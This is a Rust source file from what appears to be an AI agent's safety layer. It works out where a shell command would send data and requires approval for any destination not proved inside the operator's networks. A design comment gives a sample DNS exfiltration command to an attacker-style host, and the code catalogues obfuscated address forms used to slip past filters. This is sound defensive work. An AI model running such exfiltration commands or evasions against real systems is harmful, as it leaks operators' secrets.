//! Where a proven read sends something (issue 24, red team 6 §D; ADR 0030).
//!
//! The words of a read can carry data to the host they name: a URL's path and query, a DNS name
//! (`dig SECRET.evil.example`: the query reaches that domain's name servers), a proxy, a resolver,
//! the address a probe goes to. A read's output reaches the model, and the model chooses the next
//! read's words, so a read that sends anything outside the operator's networks is asked about
//! first: its destinations are read from the program's own options and operands, and each must
//! be *proved inside*:
//!
//! - a loopback, private (RFC 1918), unique local or link-local address, however it is written
//!   (`127.1`, `2130706433`, `0x7f.0.0.1`, `[::ffff:127.0.0.1]` are read as `inet_aton` and curl
//!   read them, so a number is inside only when the address it names is);
//! - a single-label name (`db01`: the resolver's search domains are the operator's);
//! - a name under an internal suffix (`.internal`, `.local`, `.localhost`, `.localdomain`, `.lan`,
//!   `.home.arpa`, `.svc`, `.corp`, `.home`), or the reverse name of an inside address;
//! - a domain suffix or network of `policy.egress_allow` (the operator's own public domains).
//!
//! Probes and DNS queries (not HTTP requests) may also go to a few well-known public resolvers'
//! addresses (`ping 8.8.8.8`, `dig @1.1.1.1 NAME`): nothing but the packet, or a query whose name
//! is checked on its own, reaches them. Everything else — a public name or address, text merlya
//! cannot read as one, a destination only known at run time — is outside: the command needs an
//! approval whose reason names it.
//!
//! The decision is a function of the command's text and the configuration, never of the inventory
//! (which imports and discovery change without the operator reading each name): see ADR 0030.

use std::cell::RefCell;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::{Arc, RwLock};

use super::invocation::Invocation;

/// Name suffixes that never leave the operator's networks: reserved for local use (RFC 6761,
/// RFC 8375, `.internal`), multicast DNS, Kubernetes services, and the names ICANN decided never
/// to delegate (`.corp`, `.home`).
const INTERNAL_SUFFIXES: &[&str] =
    &["localhost", "internal", "local", "localdomain", "lan", "home.arpa", "svc", "corp", "home"];

/// Well-known public resolvers (Google, Cloudflare, Quad9, OpenDNS): a probe or a DNS query to
/// one carries nothing to whoever could read it, since no one else receives it.
const PUBLIC_RESOLVERS: &[&str] = &[
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "9.9.9.9",
    "149.112.112.112",
    "208.67.222.222",
    "208.67.220.220",
    "2001:4860:4860::8888",
    "2001:4860:4860::8844",
    "2606:4700:4700::1111",
    "2606:4700:4700::1001",
    "2620:fe::fe",
    "2620:fe::9",
];

/// `policy.egress_allow`: the operator's own domains and networks, as parsed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EgressAllow {
    suffixes: Vec<String>,
    nets: Vec<(IpAddr, u8)>,
}

impl EgressAllow {
    /// Reads the entries of `policy.egress_allow`: domain suffixes (`example.com`, `.example.com`
    /// or `*.example.com`, each covering the domain and every name under it) and networks
    /// (`203.0.113.0/24`, `2001:db8::/32`, or one address). The error names the entry.
    pub fn parse(entries: &[String]) -> Result<Self, String> {
        let mut allow = Self::default();
        for entry in entries {
            let text = entry.trim().to_ascii_lowercase();
            let bad = |why: &str| Err(format!("`{entry}`: {why}"));
            if text.contains('/') || text.parse::<IpAddr>().is_ok() {
                let (addr, prefix) = text.split_once('/').unwrap_or((&text, ""));
                let Ok(addr) = addr.parse::<IpAddr>() else {
                    return bad("expected a network such as 203.0.113.0/24 or 2001:db8::/32");
                };
                let full = if addr.is_ipv4() { 32 } else { 128 };
                let prefix = if prefix.is_empty() { Ok(full) } else { prefix.parse::<u8>() };
                let Ok(prefix) = prefix.map_err(|_| ()).and_then(|p| if p <= full { Ok(p) } else { Err(()) }) else {
                    return bad("expected a prefix length of at most 32 (IPv4) or 128 (IPv6)");
                };
                if prefix < if addr.is_ipv4() { 8 } else { 16 } {
                    return bad("a network this large covers much of the internet (at least /8 or /16 for IPv6)");
                }
                allow.nets.push((addr, prefix));
                continue;
            }
            let name = text.strip_prefix("*.").or_else(|| text.strip_prefix('.')).unwrap_or(&text);
            let name = name.strip_suffix('.').unwrap_or(name);
            if !valid_name(name) {
                return bad("expected a domain such as example.com, or a network such as 10.20.0.0/16");
            }
            if !name.contains('.') {
                return bad("a top-level name alone would let every name under it out; name the domain (example.com)");
            }
            allow.suffixes.push(name.to_string());
        }
        Ok(allow)
    }

    fn covers_name(&self, name: &str) -> bool {
        self.suffixes.iter().any(|s| under(name, s))
    }

    fn covers_ip(&self, ip: IpAddr) -> bool {
        self.nets.iter().any(|(net, prefix)| in_network(ip, *net, *prefix))
    }
}

static CONFIGURED: RwLock<Option<Arc<EgressAllow>>> = RwLock::new(None);

thread_local! {
    static SCOPED: RefCell<Option<Arc<EgressAllow>>> = const { RefCell::new(None) };
}

/// Sets the operator's allow list for the rest of the process (from `policy.egress_allow`).
pub fn configure(allow: EgressAllow) {
    if let Ok(mut slot) = CONFIGURED.write() {
        *slot = Some(Arc::new(allow));
    }
}

/// Runs `f` with `allow` in place of the configured list, on this thread only: the table's own
/// examples are checked without the operator's list, and tests choose theirs.
pub fn with_allow<T>(allow: EgressAllow, f: impl FnOnce() -> T) -> T {
    struct Restore(Option<Arc<EgressAllow>>);
    impl Drop for Restore {
        fn drop(&mut self) {
            let previous = self.0.take();
            SCOPED.with(|s| *s.borrow_mut() = previous);
        }
    }
    let previous = SCOPED.with(|s| s.borrow_mut().replace(Arc::new(allow)));
    let _restore = Restore(previous);
    f()
}

fn current() -> Arc<EgressAllow> {
    if let Some(scoped) = SCOPED.with(|s| s.borrow().clone()) {
        return scoped;
    }
    CONFIGURED.read().ok().and_then(|slot| slot.clone()).unwrap_or_default()
}

/// Where a destination is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// Proved inside the operator's networks.
    Inside,
    /// A well-known public resolver's address.
    PublicResolver,
    /// Anything else.
    Outside,
}

/// Where the host `text` is (a name, an address in any form `inet_aton` reads, `[IPv6]`).
pub fn place(text: &str, allow: &EgressAllow) -> Place {
    let host = text.to_ascii_lowercase();
    let bare = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')).unwrap_or(&host);
    if let Some(ip) = ip_literal(bare) {
        return ip_place(ip, allow);
    }
    if bare.contains(':') || host.starts_with('[') {
        return Place::Outside;
    }
    let (name, absolute) = match bare.strip_suffix('.') {
        Some(name) => (name, true),
        None => (bare, false),
    };
    if !valid_name(name) {
        return Place::Outside;
    }
    if !name.contains('.') && !absolute {
        return Place::Inside;
    }
    if let Some(ip) = reverse_name(name) {
        return ip_place(ip, allow);
    }
    if INTERNAL_SUFFIXES.iter().any(|s| under(name, s)) || allow.covers_name(name) {
        Place::Inside
    } else {
        Place::Outside
    }
}

/// Letters, digits, `-` and `_` in non-empty labels (anything else — `%`, `@`, `\`, non-ASCII —
/// is text another parser may read differently).
pub(super) fn valid_name(name: &str) -> bool {
    !name.is_empty()
        && name.split('.').all(|l| {
            !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
}

fn under(name: &str, suffix: &str) -> bool {
    name == suffix || name.strip_suffix(suffix).is_some_and(|rest| rest.ends_with('.'))
}

/// Whether `[TEXT]` holds an IPv6 address (a zone allowed), as curl's glob parser checks.
pub fn ipv6_in_brackets(host: &str) -> bool {
    host.strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .is_some_and(|h| matches!(ip_literal(h), Some(IpAddr::V6(_))))
}

/// An IP address as curl reads a host: IPv6 (a zone allowed) or any `inet_aton` form.
pub(super) fn ip_literal(text: &str) -> Option<IpAddr> {
    if text.contains(':') {
        // A zone (`fe80::1%eth0`, `%25eth0` in a URL) names a local interface.
        let addr = text.split_once('%').map_or(text, |(a, _)| a);
        return addr.parse::<Ipv6Addr>().ok().map(IpAddr::V6);
    }
    inet_aton(text).map(IpAddr::V4)
}

/// An IPv4 address as `inet_aton` and curl's URL parser read it: one to four parts, each decimal,
/// octal (`0…`) or hexadecimal (`0x…`), the last filling the remaining bytes (`127.1`,
/// `2130706433`, `0x7f.0.0.1`).
pub fn inet_aton(text: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = text.split('.').collect();
    if parts.len() > 4 {
        return None;
    }
    let mut values = Vec::with_capacity(4);
    for part in &parts {
        let (digits, radix) = if let Some(hex) = part.strip_prefix("0x").or_else(|| part.strip_prefix("0X")) {
            (hex, 16)
        } else if part.len() > 1 && part.starts_with('0') {
            (&part[1..], 8)
        } else {
            (*part, 10)
        };
        if digits.is_empty() || digits.len() > 10 || !digits.chars().all(|c| c.is_digit(radix)) {
            return None;
        }
        values.push(u64::from_str_radix(digits, radix).ok()?);
    }
    let (last, leading) = values.split_last()?;
    if leading.iter().any(|v| *v > 255) || *last >= 1u64 << (8 * (5 - values.len())) {
        return None;
    }
    let mut address = *last;
    for (i, v) in leading.iter().enumerate() {
        address |= v << (8 * (3 - i));
    }
    u32::try_from(address).ok().map(Ipv4Addr::from)
}

fn ip_place(ip: IpAddr, allow: &EgressAllow) -> Place {
    let v4 = match ip {
        IpAddr::V4(v4) => Some(v4),
        IpAddr::V6(v6) => v6.to_ipv4_mapped(),
    };
    if allow.covers_ip(ip) || v4.is_some_and(|v4| allow.covers_ip(IpAddr::V4(v4))) {
        return Place::Inside;
    }
    let inside = match (v4, ip) {
        (Some(v4), _) => v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified(),
        (None, IpAddr::V6(v6)) => {
            let first = v6.segments()[0];
            v6.is_loopback() || v6.is_unspecified() || first & 0xfe00 == 0xfc00 || first & 0xffc0 == 0xfe80
        }
        (None, IpAddr::V4(_)) => false,
    };
    if inside {
        Place::Inside
    } else if PUBLIC_RESOLVERS.iter().any(|r| r.parse::<IpAddr>().is_ok_and(|r| r == ip)) {
        Place::PublicResolver
    } else {
        Place::Outside
    }
}

fn in_network(ip: IpAddr, net: IpAddr, prefix: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(ip), IpAddr::V4(net)) => {
            let mask = u32::MAX.checked_shl(32 - u32::from(prefix)).unwrap_or(0);
            u32::from(ip) & mask == u32::from(net) & mask
        }
        (IpAddr::V6(ip), IpAddr::V6(net)) => {
            let mask = u128::MAX.checked_shl(128 - u32::from(prefix)).unwrap_or(0);
            u128::from(ip) & mask == u128::from(net) & mask
        }
        _ => false,
    }
}

/// `4.3.2.1.in-addr.arpa` → 1.2.3.4; 32 nibbles `….ip6.arpa` → the IPv6 address.
fn reverse_name(name: &str) -> Option<IpAddr> {
    if let Some(rest) = name.strip_suffix(".in-addr.arpa") {
        let octets: Vec<u8> = rest.split('.').rev().map(|p| p.parse().ok()).collect::<Option<_>>()?;
        let octets: [u8; 4] = octets.try_into().ok()?;
        return Some(IpAddr::V4(Ipv4Addr::from(octets)));
    }
    let rest = name.strip_suffix(".ip6.arpa")?;
    let nibbles: Vec<&str> = rest.split('.').collect();
    if nibbles.len() != 32 || !nibbles.iter().all(|n| n.len() == 1) {
        return None;
    }
    let hex: String = nibbles.into_iter().rev().collect();
    u128::from_str_radix(&hex, 16).ok().map(|v| IpAddr::V6(Ipv6Addr::from(v)))
}

// ---------------------------------------------------------------- destinations

/// What a program does with a destination (the reason names it).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    Request,
    Proxy,
    Lookup,
    Resolver,
    Probe,
    Connect,
}

impl Use {
    fn says(self, host: &str) -> String {
        match self {
            Use::Request => format!("sends a request to {host}"),
            Use::Proxy => format!("sends its requests through the proxy {host}"),
            Use::Lookup => format!("looks up {host}"),
            Use::Resolver => format!("asks the name server {host}"),
            Use::Probe => format!("sends packets to {host}"),
            Use::Connect => format!("connects to {host}"),
        }
    }
}

/// A destination's host as the command gives it.
enum Host {
    /// Text merlya reads as the program does.
    Known(String),
    /// A word only known at run time.
    RunTime(String),
    /// Text merlya cannot read as one host (two `@`, a bare `:` in a host).
    Unreadable(String),
}

/// One destination of a command.
struct Destination {
    host: Host,
    used: Use,
}

impl Destination {
    /// From an option's value (an expansion left in it is only known at run time).
    fn host(used: Use, host: impl Into<String>) -> Self {
        let host: String = host.into();
        Self::word(used, &host, true)
    }

    /// From a word's text (`known`: the program sees exactly this text).
    fn word(used: Use, text: &str, known: bool) -> Self {
        let host = if known && !text.contains(['$', '`']) {
            Host::Known(text.to_string())
        } else {
            Host::RunTime(text.to_string())
        };
        Self { host, used }
    }

    /// The host of a URL (a proxy, an API address), or why there is none.
    fn url(used: Use, url: &str, known: bool) -> Self {
        let host = match url_host(url) {
            _ if !known || url.contains(['$', '`']) => Host::RunTime(url.to_string()),
            Some(host) => Host::Known(host),
            None => Host::Unreadable(url.to_string()),
        };
        Self { host, used }
    }
}

/// Why `inv` sends something outside the operator's networks, if it does: the first destination
/// that is not proved inside, named. `input_empty`: its standard input is proved to hold at most
/// an empty line.
pub fn check(inv: &Invocation, input_empty: bool) -> Result<(), String> {
    let allow = current();
    // ADR 0030, "Requests that carry nothing": a registrable name asked with nothing else chosen.
    let carries_nothing = input_empty && super::egress_nodata::carries_nothing(inv);
    for d in destinations(inv) {
        let host = match d.host {
            Host::Known(host) => host,
            Host::RunTime(text) => {
                return Err(format!(
                    "{}: merlya cannot prove it stays inside the operator's networks",
                    d.used.says(&format!("a host only known at run time (`{text}`)"))
                ));
            }
            Host::Unreadable(text) => {
                return Err(format!(
                    "{}: merlya cannot tell which host it names, so cannot prove it is inside the operator's networks",
                    d.used.says(&format!("`{text}`"))
                ));
            }
        };
        let inside = match place(&host, &allow) {
            Place::Inside => true,
            Place::PublicResolver => !matches!(d.used, Use::Request | Use::Proxy),
            Place::Outside => {
                carries_nothing
                    && matches!(d.used, Use::Request | Use::Lookup | Use::Probe | Use::Connect)
                    && super::egress_nodata::bare_name(&host)
            }
        };
        if !inside {
            let shown = if host.is_empty() { "an empty host".to_string() } else { host };
            return Err(format!("{}, outside the operator's networks (policy.egress_allow)", d.used.says(&shown)));
        }
    }
    Ok(())
}

fn destinations(inv: &Invocation) -> Vec<Destination> {
    let operands = || inv.operands.iter().map(|w| (w.text.as_str(), !w.dynamic && w.opaque.is_none() && !w.glob));
    let values = |names: &[&str]| names.iter().flat_map(|n| inv.values(n)).map(str::to_string).collect::<Vec<_>>();
    let mut out = Vec::new();
    match inv.program.as_str() {
        "curl" | "wget" => {
            // A URL's glob characters are literal for these (the rendering quotes them). Through a
            // Unix socket, the URL's host is only the Host header.
            if !inv.has("--unix-socket") && !inv.has("--abstract-unix-socket") {
                for w in &inv.operands {
                    out.push(Destination::url(Use::Request, &w.text, !w.dynamic && w.opaque.is_none()));
                }
                out.extend(values(&["--url"]).iter().map(|u| Destination::url(Use::Request, u, true)));
            }
            out.extend(values(&["-x", "--proxy"]).iter().map(|p| Destination::url(Use::Proxy, p, true)));
            for target in values(&["--connect-to"]) {
                match connect_to_host(&target) {
                    Some(Some(host)) => out.push(Destination::host(Use::Request, host)),
                    Some(None) => {}
                    None => out.push(Destination { host: Host::Unreadable(target.clone()), used: Use::Request }),
                }
            }
            for entry in values(&["--resolve"]) {
                for host in resolve_addresses(&entry) {
                    let host = if host.is_empty() { Host::Unreadable(entry.clone()) } else { Host::Known(host) };
                    out.push(Destination { host, used: Use::Request });
                }
            }
            // A host name to bind to is looked up (`--interface NAME`; an interface name is one label).
            out.extend(values(&["--interface"]).iter().map(|i| Destination::host(Use::Lookup, i.as_str())));
            for servers in values(&["--dns-servers"]) {
                for server in servers.split(',') {
                    out.extend(host_of_host_port(server).into_iter().map(|h| Destination::host(Use::Resolver, h)));
                }
            }
        }
        "dig" | "drill" => {
            for (text, known) in operands() {
                if let Some(server) = text.strip_prefix('@') {
                    // `@SERVER#PORT`
                    let server = server.split_once('#').map_or(server, |(s, _)| s);
                    out.push(Destination::word(Use::Resolver, server, known));
                } else if let Some(domain) = dig_domain(text) {
                    // `+domain=D` (or an abbreviation) appends D to the names queried with `+search`.
                    out.push(Destination::word(Use::Lookup, domain, known));
                } else if !text.starts_with('+') && !dns_keyword(text) {
                    out.push(Destination::word(Use::Lookup, text, known));
                }
            }
            for name in values(&["-x", "-q"]) {
                out.push(Destination::host(Use::Lookup, name));
            }
            // The source address (`-b ADDR[#PORT]`) is looked up when it is a name.
            for source in values(&["-b"]) {
                out.push(Destination::host(Use::Lookup, source.split_once('#').map_or(source.as_str(), |(s, _)| s)));
            }
        }
        "host" | "nslookup" => {
            for (i, (text, known)) in operands().enumerate() {
                out.push(Destination::word(if i == 0 { Use::Lookup } else { Use::Resolver }, text, known));
            }
        }
        "whois" => out.extend(operands().map(|(t, k)| Destination::word(Use::Lookup, t, k))),
        "getent" => {
            let mut ops = operands();
            if let Some((db, _)) = ops.next()
                && matches!(db, "hosts" | "ahosts" | "ahostsv4" | "ahostsv6" | "networks")
            {
                out.extend(ops.map(|(t, k)| Destination::word(Use::Lookup, t, k)));
            }
        }
        "ping" | "ping6" | "traceroute" | "traceroute6" | "tracepath" | "tracepath6" | "mtr" => {
            // traceroute's second operand is a packet length.
            let numeric = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
            let probes = operands().enumerate().filter(|(i, (t, _))| *i == 0 || !numeric(t));
            out.extend(probes.map(|(_, (t, k))| Destination::word(Use::Probe, t, k)));
            // `-I` names an interface, or a source address that may be a name to look up.
            out.extend(values(&["-I"]).iter().map(|i| Destination::host(Use::Lookup, i.as_str())));
        }
        // libpcap looks up the host names of a filter when it compiles it (`host NAME`).
        "tcpdump" => {
            for (text, _) in operands() {
                let names = text
                    .split(|c: char| c.is_whitespace() || "()!&|=<>".contains(c))
                    .filter(|t| t.contains('.') && valid_name(t.trim_end_matches('.')) && inet_aton(t).is_none());
                out.extend(names.map(|n| Destination::host(Use::Lookup, n)));
            }
        }
        "nc" | "ncat" | "netcat" => {
            let port = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit() || b == b'-' || b == b',');
            let hosts = operands().enumerate().filter(|(i, (t, _))| *i == 0 || !port(t));
            out.extend(hosts.map(|(_, (t, k))| Destination::word(Use::Connect, t, k)));
        }
        "openssl" if inv.path.first().is_some_and(|p| p == "s_client") => {
            for target in values(&["-connect", "-host"]) {
                let hosts = host_of_host_port(&target);
                if hosts.is_empty() {
                    out.push(Destination { host: Host::Unreadable(target.clone()), used: Use::Connect });
                }
                out.extend(hosts.into_iter().map(|h| Destination::host(Use::Connect, h)));
            }
        }
        "ntpq" | "showmount" => out.extend(operands().map(|(t, k)| Destination::word(Use::Connect, t, k))),
        "resolvectl" | "systemd-resolve" if inv.path.first().is_some_and(|p| p == "query") => {
            out.extend(operands().map(|(t, k)| Destination::word(Use::Lookup, t, k)));
        }
        // A CRI or containerd endpoint is a Unix socket, or a host over TCP.
        "crictl" | "ctr" => {
            let endpoints = values(&["-r", "--runtime-endpoint", "-i", "--image-endpoint", "-a", "--address"]);
            for endpoint in endpoints.iter().filter(|e| !e.starts_with('/') && !e.starts_with("unix://")) {
                out.push(Destination::url(Use::Connect, endpoint, true));
            }
        }
        "ipmitool" => out.extend(values(&["-H"]).into_iter().map(|h| Destination::host(Use::Connect, h))),
        // Both send their stored token with every request.
        "consul" | "vault" => {
            out.extend(values(&["-http-addr", "-address"]).iter().map(|a| Destination::url(Use::Request, a, true)));
        }
        "rabbitmqctl" => {
            for node in values(&["-n", "--node"]) {
                if let Some((_, host)) = node.split_once('@') {
                    out.push(Destination::host(Use::Connect, host));
                }
            }
        }
        name if name.starts_with("kafka-") => {
            for list in values(&["--bootstrap-server"]) {
                for server in list.split(',') {
                    let hosts = host_of_host_port(server);
                    if hosts.is_empty() {
                        out.push(Destination { host: Host::Unreadable(server.to_string()), used: Use::Connect });
                    }
                    out.extend(hosts.into_iter().map(|h| Destination::host(Use::Connect, h)));
                }
            }
        }
        // Any other program given a URL fetches it (`rpm -qp URL`, `pip download URL`, `helm show
        // URL`): its path and query reach the URL's host. Programs that only print or match text
        // are left out.
        name if !TEXT_ONLY.contains(&name) => {
            let options = inv.options.iter().filter_map(|(_, v)| v.as_deref().map(|v| (v, true)));
            for (text, known) in operands().chain(options) {
                out.extend(fetched_urls(text).into_iter().map(|url| Destination::url(Use::Request, url, known)));
            }
        }
        _ => {}
    }
    out
}

/// Programs whose operands are text to print or match, never something to fetch.
const TEXT_ONLY: &[&str] = &[
    "echo", "printf", "grep", "egrep", "fgrep", "zgrep", "rg", "awk", "gawk", "mawk", "sed", "jq", "yq", "test", "[",
    "[[",
];

/// Schemes of URLs that programs fetch.
const FETCHED_SCHEMES: &[&str] = &[
    "http", "https", "ftp", "ftps", "tftp", "sftp", "scp", "ldap", "ldaps", "smb", "gopher", "dict", "ws", "wss",
    "git", "rsync", "ssh",
];

/// The URLs of a fetched scheme inside `text` (`http://…`, `x,ftp://…`), from their scheme on.
fn fetched_urls(text: &str) -> Vec<&str> {
    let mut urls = Vec::new();
    for (at, _) in text.match_indices("://") {
        let start = text[..at].rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |i| i + 1);
        if FETCHED_SCHEMES.contains(&text[start..at].to_ascii_lowercase().as_str()) {
            urls.push(&text[start..]);
        }
    }
    urls
}

/// The value of dig's `+domain=D` (`+dom=D`, any abbreviation dig accepts), if `text` is one.
fn dig_domain(text: &str) -> Option<&str> {
    let (key, value) = text.strip_prefix('+')?.split_once('=')?;
    let key = key.strip_prefix("no").unwrap_or(key).to_ascii_lowercase();
    (key.len() >= 3 && "domain".starts_with(&key)).then_some(value)
}

/// DNS record types and classes, which dig reads as such rather than as names.
fn dns_keyword(text: &str) -> bool {
    const KEYWORDS: &[&str] = &[
        "a",
        "aaaa",
        "a6",
        "afsdb",
        "any",
        "apl",
        "axfr",
        "caa",
        "cdnskey",
        "cds",
        "cert",
        "cname",
        "csync",
        "dhcid",
        "dlv",
        "dname",
        "dnskey",
        "ds",
        "eui48",
        "eui64",
        "hinfo",
        "hip",
        "https",
        "ipseckey",
        "ixfr",
        "key",
        "kx",
        "loc",
        "mx",
        "naptr",
        "ns",
        "nsec",
        "nsec3",
        "nsec3param",
        "null",
        "openpgpkey",
        "ptr",
        "rp",
        "rrsig",
        "sig",
        "smimea",
        "soa",
        "spf",
        "srv",
        "sshfp",
        "svcb",
        "ta",
        "tkey",
        "tlsa",
        "tsig",
        "txt",
        "uri",
        "zonemd",
        "in",
        "ch",
        "chaos",
        "hs",
        "hesiod",
    ];
    let lower = text.to_ascii_lowercase();
    KEYWORDS.contains(&lower.as_str())
        || ["type", "class"]
            .iter()
            .any(|p| lower.strip_prefix(p).is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit())))
}

/// The host of a URL as curl reads it: an optional `SCHEME:` and its slashes, `USER[:PASS]@`, the
/// host (`[IPv6]` or up to the port), up to the first `/`, `?` or `#`. `None` when it cannot be
/// read unambiguously (two `@`, a host with `:` outside brackets).
pub fn url_host(url: &str) -> Option<String> {
    Some(split_url(url)?.0)
}

/// A URL's host and the rest (path, query and fragment), as [`url_host`] reads them.
pub fn split_url(url: &str) -> Option<(String, &str)> {
    let scheme_end = url.find(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c))).unwrap_or(url.len());
    let after_scheme = if scheme_end > 0 && url[scheme_end..].starts_with(":/") {
        url[scheme_end + 1..].trim_start_matches('/')
    } else {
        url
    };
    let end = after_scheme.find(['/', '?', '#']).unwrap_or(after_scheme.len());
    let (authority, rest) = after_scheme.split_at(end);
    let host_port = match authority.matches('@').count() {
        0 => authority,
        1 => authority.split_once('@')?.1,
        _ => return None,
    };
    let (host, port) = if host_port.starts_with('[') {
        let close = host_port.find(']')?;
        (&host_port[..=close], &host_port[close + 1..])
    } else {
        match host_port.find(':') {
            Some(colon) => host_port.split_at(colon),
            None => (host_port, ""),
        }
    };
    // A port is digits after one `:` (`http:\\evil.com` is not host `http` on port `\\evil.com`).
    let plain_port = port.is_empty() || port.strip_prefix(':').is_some_and(|p| p.bytes().all(|b| b.is_ascii_digit()));
    plain_port.then(|| (host.to_string(), rest))
}

/// The host of `HOST[:PORT]` (`[IPv6]:PORT`); an IPv6 address without brackets is read both ways
/// (all of it, and all but a last `:PORT`), so each reading must be inside.
fn host_of_host_port(text: &str) -> Vec<String> {
    let text = text.trim();
    if text.starts_with('[') {
        return text.find(']').map(|c| vec![text[..=c].to_string()]).unwrap_or_default();
    }
    match text.matches(':').count() {
        0 => vec![text.to_string()],
        1 => text.split_once(':').map(|(h, _)| vec![h.to_string()]).unwrap_or_default(),
        _ => {
            let before = text.rsplit_once(':').map(|(h, _)| h.to_string()).unwrap_or_default();
            vec![text.to_string(), before]
        }
    }
}

/// curl's `--connect-to HOST1:PORT1:HOST2:PORT2`: `Some(Some(HOST2))`, `Some(None)` when HOST2 is
/// empty (the URL's own host), `None` when it cannot be read.
fn connect_to_host(text: &str) -> Option<Option<String>> {
    let fields = split_fields(text)?;
    let [_, _, host, _] = fields.as_slice() else { return None };
    Some((!host.is_empty()).then(|| host.to_string()))
}

/// curl's `--resolve [+]HOST:PORT:ADDR[,ADDR]…` (`-HOST:PORT` removes an entry): the addresses,
/// or one unreadable entry when the text cannot be read.
fn resolve_addresses(text: &str) -> Vec<String> {
    let text = text.strip_prefix('+').unwrap_or(text);
    if text.starts_with('-') {
        return Vec::new();
    }
    let host_end = if text.starts_with('[') { text.find(']').map(|c| c + 1) } else { text.find(':') };
    let rest = host_end.and_then(|e| text[e..].strip_prefix(':')).and_then(|r| r.split_once(':')).map(|(_, a)| a);
    match rest {
        Some(addresses) if !addresses.is_empty() => addresses.split(',').map(|a| a.trim().to_string()).collect(),
        _ => vec![String::new()],
    }
}

/// `A:B:C:D` with `[IPv6]` fields kept whole.
fn split_fields(text: &str) -> Option<Vec<&str>> {
    let mut fields = Vec::new();
    let mut rest = text;
    loop {
        let end = if rest.starts_with('[') { rest.find(']')? + 1 } else { rest.find(':').unwrap_or(rest.len()) };
        fields.push(&rest[..end]);
        match rest[end..].strip_prefix(':') {
            Some(next) => rest = next,
            None if end == rest.len() => return Some(fields),
            None => return None,
        }
    }
}

#[cfg(test)]
#[path = "egress_tests.rs"]
mod tests;
